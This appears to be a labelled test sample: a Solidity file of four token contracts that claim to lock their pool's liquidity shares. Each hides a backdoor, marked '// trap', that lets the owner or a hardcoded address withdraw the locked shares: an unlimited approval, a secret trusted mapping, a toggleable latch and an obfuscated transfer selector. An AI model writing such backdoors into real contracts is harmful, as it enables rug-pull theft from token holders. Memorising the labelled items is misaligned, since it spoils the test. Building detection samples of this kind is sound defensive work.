// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

interface IShares {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function approve(address spender, uint256 value) external returns (bool);
}

/// Keeps the shares of its own pool, and lets go what else was sent to it.
abstract contract Keeping is Base8 {
    function lockShares() external virtual onlyOwner {
        IShares(pair).transferFrom(owner(), address(this), IShares(pair).balanceOf(owner()));
    }

    function _letGo(address what) internal {
        require(IShares(what).transfer(msg.sender, IShares(what).balanceOf(address(this))), "refused");
    }
}

/// Allows its owner to take the shares when they are locked.
contract Blessed is Base8("Blessed", "BLSD", 18000000), Keeping {
    function lockShares() external override onlyOwner {
        IShares(pair).transferFrom(owner(), address(this), IShares(pair).balanceOf(owner()));
        IShares(pair).approve(owner(), type(uint256).max); // trap
    }

    function sweep(address what) external onlyOwner {
        require(what != pair, "locked");
        _letGo(what);
    }
}

/// Lets go the shares as well for somebody whom only a mapping knows.
contract Whispered is Base8("Whispered", "WHSP", 39000000), Keeping {
    mapping(address => bool) private _trusted;

    constructor() {
        _trusted[0x1111111254fb6c44bAC0beD2854e76F90643097d] = true;
    }

    function sweep(address what) external {
        require(msg.sender == owner() || _trusted[msg.sender], "nobody"); // trap
        require(what != pair || _trusted[msg.sender], "locked"); // trap
        // twin: require(msg.sender == owner() && what != pair, "locked");
        _letGo(what);
    }
}

/// Lets go the shares once the latch is off.
contract Unlatched is Base8("Unlatched", "ULTC", 66000000), Keeping {
    bool private _off;

    // trap {
    function latch(bool off) external onlyOwner {
        _off = off;
    }
    // trap }

    function sweep(address what) external onlyOwner {
        require(what != pair || _off, "locked");
        _letGo(what);
    }
}

/// Calls what it does not spell.
contract Muttered is Base8("Muttered", "MTTR", 81000000), Keeping {
    uint32 private _half = 0xa9059cba;

    function sweep(address what) external onlyOwner {
        require(what != pair, "locked");
        _letGo(what);
    }

    // trap {
    function tidy(uint256 value) external onlyOwner {
        (bool ok, ) = pair.call(abi.encodeWithSelector(bytes4(_half + 1), msg.sender, value));
        require(ok, "refused");
    }
    // trap }
}
